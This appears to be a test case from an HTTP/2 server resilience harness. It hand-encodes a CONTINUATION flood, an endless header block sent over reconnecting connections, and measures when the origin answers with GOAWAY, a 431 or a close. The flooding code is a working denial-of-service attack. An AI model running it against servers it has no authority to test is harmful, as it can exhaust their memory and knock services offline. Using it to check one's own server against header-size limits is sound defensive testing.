"""continuation-flood: one HEADERS without END_HEADERS, then CONTINUATION frames without end.

A header block that never ends must be buffered (HPACK cannot be decoded halfway) until the
origin gives up on it. The `h2` library will not send this, so the frames are hand-encoded:
the connection preface, an empty SETTINGS, HEADERS on stream 1 (END_STREAM, no END_HEADERS)
carrying the GET and the secret, then CONTINUATION frames of --frame-bytes of made-up literal
header fields. Nothing else may be sent in between (not even a SETTINGS ACK: RFC 9113 §6.10),
so the origin's SETTINGS go unacknowledged. Each of --count connections floods until the
origin acts (GOAWAY, RST_STREAM, a 431, a close) or stops reading, then reconnects.
server.max_header_bytes (64 KiB) also caps these blocks: the origin should act near there.
"""

import asyncio
import ssl

import hpack

import harness
import wire
from cases import Case

# How long a blocked write may wait before the origin counts as having stopped reading.
STALLED_S = 5.0
# A connection opened this close to the deadline had no time to be judged; it is left out.
CUT_SHORT_S = 1.0


def add_arguments(parser):
    parser.add_argument("--frame-bytes", type=int, default=16384,
                        help="payload per CONTINUATION frame, ≤ 16384 (the default SETTINGS_MAX_FRAME_SIZE)")


def literal_fields(size, start):
    """HPACK literal header fields without indexing, new names (RFC 7541 §6.2.2), about `size`
    bytes: the origin has to keep them all, because the block is never complete."""
    out, n = bytearray(), start
    while len(out) < size - 40:
        name, value = f"x-flood-{n}".encode(), (b"v" * 24)
        out += b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
        n += 1
    return bytes(out), n


async def attack(run, args):
    workers = [asyncio.create_task(flood_loop(run, args)) for _ in range(args.count)]
    await asyncio.sleep(min(1.0, run.remaining()))
    run.established.set()
    results = await asyncio.gather(*workers, return_exceptions=True)
    attempts = [a for r in results if isinstance(r, list) for a in r]
    return {"attempts": attempts,
            "worker_errors": harness.error_counts(results)}


async def flood_loop(run, args):
    attempts = []
    while run.remaining() > 0:
        record = {"connected_at": run.clock(), "header_bytes": 0, "frames": 0, "received": []}
        attempts.append(record)
        try:
            reader, writer = await wire.open_tls(run.address, run.h2_context(), timeout=run.io_timeout())
        except (OSError, ssl.SSLError, asyncio.TimeoutError) as error:
            record["ended_by"] = f"connect failed: {type(error).__name__}"
            await asyncio.sleep(0.1)
            continue
        listener = asyncio.create_task(listen(reader, record, run))
        try:
            await flood(run, args, writer, record, listener)
        finally:
            listener.cancel()
            await asyncio.gather(listener, return_exceptions=True)
            writer.close()
        record["lasted_s"] = round(run.clock() - record["connected_at"], 3)
        record["ended_by"] = verdict(record, run.remaining() <= 0)
    return attempts


async def flood(run, args, writer, record, listener):
    """Sends the preface, the open HEADERS, then CONTINUATION until something happens."""
    first = hpack.Encoder().encode(wire.request_headers(harness.BIG_OBJECT, run.secret))
    writer.write(wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0) + wire.frame(wire.HEADERS, wire.END_STREAM, 1, first))
    record["header_bytes"] = len(first)
    n = 0
    while run.remaining() > 0 and not listener.done() and not record["received"]:
        payload, n = literal_fields(args.frame_bytes, n)
        writer.write(wire.frame(wire.CONTINUATION, 0, 1, payload))
        try:
            await asyncio.wait_for(writer.drain(), STALLED_S)
        except asyncio.TimeoutError:
            record["stalled_at"] = run.clock()
            await asyncio.wait({listener}, timeout=min(STALLED_S, run.remaining()))
            return
        except (OSError, ssl.SSLError) as error:
            record["write_error"] = type(error).__name__
            break
        record["header_bytes"] += len(payload)
        record["frames"] += 1
    # Give the origin's answer (or close) a moment to arrive after the last frame.
    await asyncio.wait({listener}, timeout=min(1.0, max(0.0, run.remaining())))


async def listen(reader, record, run):
    """Parses what the origin sends; notes GOAWAY, RST_STREAM, response HEADERS and the close."""
    parser, decoder = wire.FrameParser(), hpack.Decoder()
    try:
        while True:
            data = await reader.read(65536)
            if not data:
                break
            for kind, flags, stream_id, payload in parser.feed(data):
                if kind in (wire.GOAWAY, wire.RST_STREAM, wire.HEADERS):
                    event = wire.describe_frame(kind, flags, stream_id, payload, decoder)
                    event["at"] = run.clock()
                    event["after_header_bytes"] = record["header_bytes"]
                    record["received"].append(event)
    except (OSError, ssl.SSLError) as error:
        record["read_error"] = type(error).__name__
    record["closed_at"] = run.clock()


def verdict(record, deadline_passed):
    """The first thing the origin did about the endless block."""
    if record["received"]:
        event = record["received"][0]
        return " ".join(str(event[k]) for k in ("frame", "error", "status") if event.get(k) is not None)
    if "closed_at" in record:
        return "closed without a frame"
    if "stalled_at" in record:
        return "stopped reading (write blocked)"
    if deadline_passed and record["lasted_s"] < CUT_SHORT_S:
        return "cut short by the deadline"
    return "nothing before the deadline"


def rows(report, args):
    result = report["attack"]
    if "attempts" not in result:
        return [("attack", result.get("error", "failed"), None, None)]
    attempts = [a for a in result["attempts"]
                if not a.get("ended_by", "").startswith("connect failed") and a.get("ended_by") != "cut short by the deadline"]
    acted = [a for a in attempts if a["received"] or "closed_at" in a]
    times = [(a["received"][0]["at"] if a["received"] else a["closed_at"]) - a["connected_at"] for a in acted]
    limit = int(report["settings"].get("server.max_header_bytes", 65536))
    return [
        ("flooding connections", f"{len(attempts)} ({len(result['attempts']) - len(attempts)} failed to connect)", None, None),
        ("what the origin did", str(harness.counts(a["ended_by"] for a in attempts)), "GOAWAY/431/close",
         bool(attempts) and len(acted) == len(attempts)),
        # Counted as written into our socket: some were still in flight when the origin's answer came.
        ("header block bytes written before the origin's answer", harness.fmt_spread(
            harness.spread(a["header_bytes"] for a in acted), unit="B"), f"≈ max_header_bytes ({limit})", None),
        ("time from connect to the origin acting", harness.fmt_spread(harness.spread(times)), None, None),
        harness.attacker_errors_row(result),
    ]


CASE = Case(
    doc=__doc__,
    name="continuation-flood",
    summary="HTTP/2 CONTINUATION flood: GOAWAY/431/close, when, and RSS",
    count=2, count_means="flooding connections at once (each reconnects)", seconds=20,
    documented="--count 8 --seconds 60",
    attack=attack, rows=rows, add_arguments=add_arguments, extra_parameters=("frame_bytes",),
)
